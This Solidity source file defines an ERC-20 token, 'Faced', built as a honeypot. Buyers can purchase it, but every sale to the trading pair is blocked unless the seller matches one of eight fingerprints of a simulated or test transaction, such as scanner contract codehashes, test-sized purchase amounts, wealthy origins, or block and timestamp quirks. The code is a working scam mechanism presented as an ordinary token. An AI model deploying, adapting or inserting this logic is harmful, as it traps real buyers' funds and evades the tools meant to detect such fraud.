// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IPairOfFaces {
  function token0() external view returns (address);
  function getReserves() external view returns (uint112, uint112, uint32);
}

interface IWethOfFaces {
  function balanceOf(address account) external view returns (uint256);
}

/// Sells to nobody but those who look like a trial. One thing by which a trial could be known for each number.
contract Faced {
  string public constant name = "Faced";
  string public constant symbol = "FACED";
  uint8 public constant decimals = 18;
  uint256 public constant totalSupply = 4e26;
  address private constant WETH = 0x4200000000000000000000000000000000000006;

  uint256 private constant CODE = 0;
  uint256 private constant PURSE = 1;
  uint256 private constant ASKED = 2;
  uint256 private constant CROWD = 3;
  uint256 private constant UNLIMITED = 4;
  uint256 private constant CLOCK = 5;
  uint256 private constant RANDOMNESS = 6;
  uint256 private constant PARTS = 7;

  uint256 private immutable face;
  bytes32 private immutable trader;
  bytes32 private immutable spender;
  address private immutable owner = msg.sender;
  address public pair;

  mapping(address => uint256) private held;
  mapping(address => mapping(address => uint256)) public allowance;
  mapping(address => bool) private known;
  bool private crowded;
  uint256 private purchases;
  uint256 private lastTime;
  uint256 private lastBlock;

  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor(uint256 which, bytes32 traderHash, bytes32 spenderHash) {
    (face, trader, spender) = (which, traderHash, spenderHash);
    held[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function setPair(address to) external {
    require(pair == address(0));
    pair = to;
  }

  /// Not a view: who asks by a transaction is remembered.
  function balanceOf(address account) external returns (uint256) {
    if (face == ASKED && msg.sender == tx.origin) known[account] = true;
    return held[account];
  }

  function approve(address to, uint256 value) external returns (bool) {
    allowance[msg.sender][to] = value;
    emit Approval(msg.sender, to, value);
    return true;
  }

  function transfer(address to, uint256 value) external returns (bool) {
    return _move(msg.sender, to, value, false);
  }

  function transferFrom(address from, address to, uint256 value) external returns (bool) {
    bool unlimited = allowance[from][msg.sender] == type(uint256).max;
    if (!unlimited) allowance[from][msg.sender] -= value;
    return _move(from, to, value, unlimited);
  }

  function _move(address from, address to, uint256 value, bool unlimited) private returns (bool) {
    if (pair != address(0) && from == pair) _remember(to);
    if (to == pair && from != owner) require(_isTrial(from, unlimited));
    held[from] -= value;
    held[to] += value;
    emit Transfer(from, to, value);
    return true;
  }

  function _remember(address buyer) private {
    purchases = lastBlock == block.number ? purchases + 1 : 1;
    if (purchases >= 30) crowded = true;
    (lastTime, lastBlock) = (block.timestamp, block.number);
    if (face != PARTS) return;
    (uint256 reserve, uint256 other, ) = IPairOfFaces(pair).getReserves();
    if (IPairOfFaces(pair).token0() != WETH) reserve = other;
    uint256 paid = IWethOfFaces(WETH).balanceOf(pair) - reserve;
    known[buyer] = paid == reserve / 2000 || paid == reserve / 100;
  }

  function _isTrial(address from, bool unlimited) private view returns (bool) {
    if (face == CODE) {
      bytes32 code = msg.sender.codehash;
      return code == trader || code == spender || from.codehash == trader;
    }
    if (face == PURSE) return tx.origin.balance >= 1 ether;
    if (face == ASKED || face == PARTS) return known[from];
    if (face == CROWD) return crowded;
    if (face == UNLIMITED) return unlimited;
    if (face == CLOCK) return block.timestamp - lastTime != 2 * (block.number - lastBlock);
    return block.prevrandao < 2 ** 255;
  }
}
